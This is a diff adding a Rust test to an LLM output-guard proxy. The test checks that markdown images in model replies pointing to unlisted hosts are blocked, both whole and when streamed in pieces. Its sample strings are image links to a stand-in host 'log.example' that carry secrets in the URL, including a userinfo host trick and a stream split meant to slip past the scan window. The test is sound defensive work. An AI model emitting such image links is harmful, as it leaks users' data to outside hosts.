@@ -86,6 +86,59 @@ async fn an_image_that_carries_text_to_another_host_is_blocked() {
 }
 
 #[tokio::test]
+async fn with_an_image_host_list_an_image_from_elsewhere_is_blocked_whole_or_streamed() {
+    let up = Upstream::start().await;
+    let config = format!(
+        "{BASIC}\n[guards.output_rules]\nimage_hosts = [\"cdn.example.com\", \"*.githubusercontent.com\"]\n"
+    );
+    let p = proxy(&config, &up).await;
+    // A short value in the query, or data in the path: no shape rule fires.
+    for exfil in [
+        "Summary ready. ![](https://log.example/p.png?k=hunter2)",
+        "Summary ready. ![logo](https://log.example/u/jane.doe/4111.png)",
+        "Summary ready. ![logo][l]\n\n[l]: https://cdn.example.com@log.example/x.png",
+    ] {
+        let r = answer(&p, "", exfil, false).await;
+        assert_eq!(r.status, 403, "{exfil}: {}", r.text());
+        assert_eq!(r.header("x-menshen-decision"), "block", "{}", r.text());
+        assert!(!r.text().contains("log.example"), "{}", r.text());
+    }
+    // Listed hosts, links and code pass untouched.
+    let fine = "![chart](https://cdn.example.com/c.png?w=800) ![a](https://raw.githubusercontent.com/o/r/a.png) \
+                [source](https://log.example/?q=1) `![x](https://log.example/p.png)`";
+    let r = answer(&p, "", fine, false).await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    assert_eq!(r.json()["choices"][0]["message"]["content"], fine);
+
+    // Streamed: the host arrives split over two events, after a long alt
+    // text that pushes the image's start out of the scan window.
+    let alt = "a long description of the chart ".repeat(30);
+    let pieces = [
+        format!("Here you go. ![{alt}"),
+        "](https://log.ex".to_owned(),
+        "ample/p.png?k=hunter2) and more text".to_owned(),
+    ];
+    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
+    let text = openai_stream_text(&r.text());
+    assert!(!text.contains("log.ex"), "{text}");
+    assert!(r.text().contains("blocked_by_policy"), "{}", r.text());
+    // A listed host split the same way is delivered whole.
+    let pieces = [
+        format!("Here you go. ![{alt}"),
+        "](https://cdn.exa".to_owned(),
+        "mple.com/p.png) done".to_owned(),
+    ];
+    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
+    assert_eq!(
+        openai_stream_text(&r.text()),
+        pieces.concat(),
+        "{}",
+        r.text()
+    );
+    assert_eq!(p.shared.metrics.unscanned_total(), 0);
+}
+
+#[tokio::test]
 async fn a_destructive_tool_call_is_not_delivered_and_a_routine_one_is() {
     let up = Upstream::start().await;
     let p = proxy(BASIC, &up).await;
